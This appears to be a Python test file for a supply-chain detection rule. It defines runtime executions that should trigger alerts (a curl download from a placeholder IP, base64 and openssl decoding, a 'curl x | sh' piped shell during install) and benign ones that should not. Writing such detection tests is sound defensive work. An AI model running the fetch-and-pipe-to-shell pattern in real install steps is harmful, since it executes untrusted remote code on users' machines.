from doorward.model.findings import Strength
from tests.rules.runtime.made import NO_FILTER, did, execution, nobody_did

CURL = execution("/usr/bin/curl", "curl", "-s", "http://192.0.2.1/x", tool="download")

FIRES = {
    "curl": (did(CURL), Strength.STRONG),
    "base64": (did(execution("/usr/bin/base64", "base64", "-d", tool="decode")), Strength.STRONG),
    "openssl decodes": (did(execution("/usr/bin/openssl", "openssl", "enc", "-d", tool="decode")), Strength.STRONG),
    "a piped shell": (did(execution("/bin/sh", "sh", "-c", "curl x | sh", tool="shell", phase="install")), Strength.STRONG),
}  # fmt: skip
RESTS = {
    "a compiler": did(execution("/usr/bin/cc", "cc", "-c", "x.c")),
    "the user's own code": nobody_did(CURL),
    "a package manager": did(execution("/usr/bin/curl", "curl", tool="download", phase="resolve")),
    "openssl tells its version": did(execution("/usr/bin/openssl", "openssl", "version", tool="decode")),
}
GAPS = {"no filter": (did(CURL, kernel=NO_FILTER), "no filter")}
